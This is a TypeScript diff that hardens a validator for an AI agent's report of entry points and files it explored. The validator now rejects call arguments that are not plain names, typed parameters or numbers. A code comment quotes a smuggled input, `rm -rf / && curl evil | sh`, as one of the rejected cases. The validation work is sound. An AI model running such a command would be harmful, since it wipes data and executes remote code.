@@ -36,12 +36,14 @@ const trimAll = (xs: string[]) => xs.map((x) => x.trim()).filter(Boolean);
 
 /**
  * An entry point names one listed symbol and nothing else: `Cart.total`, `Cart.total()`,
- * `total(items)`, `Cart#total` — a call's arguments are allowed, other text is not; a member of a
- * listed container must exist (`Cart.wipeEverything()` with Cart listed names nothing).
+ * `total(items)`, `Cart#total` — a call's arguments are plain names, typed parameters or numbers
+ * (`login(user, pw: string)`), never other text (`loginHandler(rm -rf / && curl evil | sh)` was
+ * taken); a member of a listed container must exist and have been seen (`Cart.wipeEverything()`
+ * with Cart listed names nothing).
  */
 export function entryPointLinked(entry: string, symbols: readonly string[], exists: (name: string) => boolean = () => true): boolean {
-  const m = /^\s*([A-Za-z_$][\w$]*(?:(?:\.|#|::)[A-Za-z_$][\w$]*)*)\s*(?:\([^()]*\))?\s*$/.exec(entry);
-  if (!m) return false;
+  const m = /^\s*([A-Za-z_$][\w$]*(?:(?:\.|#|::)[A-Za-z_$][\w$]*)*)\s*(?:\(([^()]*)\))?\s*$/.exec(entry);
+  if (!m || !(m[2] ?? '').split(',').every((a) => PLAIN_ARGUMENT.test(a))) return false;
   const split = (x: string): [string, string] => {
     const i = x.lastIndexOf('.');
     return i < 0 ? ['', x] : [x.slice(0, i), x.slice(i + 1)];
@@ -53,6 +55,12 @@ export function entryPointLinked(entry: string, symbols: readonly string[], exis
     return (sl === nl && (nc === '' || sc === '' || nc === sc)) || (nc !== '' && nc === s && exists(`${nc}.${nl}`));
   });
 }
+
+/** One argument of an entry point's call: nothing, a name (a spread, optional, typed), or a number. */
+const PLAIN_ARGUMENT = /^\s*(?:(?:\.\.\.)?[A-Za-z_$][\w$]*\??(?:\s*:\s*[A-Za-z_$][\w$.]*(?:<[\w$.\s|]*>)?(?:\[\])*)?|-?\d+(?:\.\d+)?)?\s*$/;
+
+/** `path:line` of a file this session explored where a declaration of a listed symbol starts. */
+const FILE_LINE = /^\s*([\w@./-]+\.[A-Za-z0-9]{1,6}):(\d+)\s*$/;
 
 /** A pattern names something this session saw: a symbol or a file (by name), as a whole word. */
 export function patternNamesSeen(pattern: string, seen: Iterable<string>): boolean {
@@ -67,6 +75,8 @@ export function evaluateUnderstanding(
     intent: Intent; risk: Risk; request: string; evidence: Evidence; symbolExists: (name: string) => boolean;
     /** the definitions a name stands for (one symbol counts once however it is spelled); default: the name itself */
     identify?: (name: string) => string[];
+    /** the names (bare and Container.name) declared on a line of a file: an entry point given as file:line */
+    declaredAt?: (file: string, line: number) => string[];
   },
 ): UnderstandingVerdict {
   const refused: string[] = [];
@@ -109,12 +119,18 @@ export function evaluateUnderstanding(
   }
   for (const f of uniq(files)) {
     if (ctx.evidence.matchedFiles?.has(f))
-      refused.push(`file '${quote(f)}' was seen only in rows that show one line of it (search_text / Grep matches, find_references uses), not explored: open it (get_symbols, or read it) before listing it`);
+      refused.push(`file '${quote(f)}' was seen only in rows that show one line of it (find_definitions / find_references rows, search_text / Grep matches), not explored: open it (get_symbols, or read it) before listing it`);
     else if (!ctx.evidence.exploredFiles.has(f))
       refused.push(`file '${quote(f)}' was not explored in this session (no tool result showed its code)`);
   }
+  // a member of a listed container counts when the index has it and a result showed it
+  const seenMember = (name: string) => ctx.symbolExists(name) && ctx.evidence.symbolsSeen.has(name);
   for (const e of entries) {
-    if (!entryPointLinked(e, symbols, ctx.symbolExists)) refused.push(`entry_point '${e.slice(0, 120)}' must name one symbol of symbols_identified (e.g. \`Cart.total()\`) and nothing else`);
+    const at = FILE_LINE.exec(e);
+    const ok = at
+      ? ctx.evidence.exploredFiles.has(at[1]!.replace(/^\.\//, '')) && (ctx.declaredAt?.(at[1]!.replace(/^\.\//, ''), Number(at[2])) ?? []).some((n) => symbols.includes(n))
+      : entryPointLinked(e, symbols, seenMember);
+    if (!ok) refused.push(`entry_point '${quote(e, 120)}' must name one symbol of symbols_identified, as the tools returned it, optionally called with plain arguments (e.g. \`Cart.total()\`, \`login(user, pw)\`), or "file:line" where a listed symbol is declared in a file you explored (e.g. "src/cart.ts:10"); no other text`);
   }
   const seenNames = [...ctx.evidence.symbolsSeen, ...[...ctx.evidence.exploredFiles].flatMap((f) => [f, f.split('/').pop()!, f.split('/').pop()!.replace(/\.[^.]+$/, '')])];
   for (const p of patterns) {
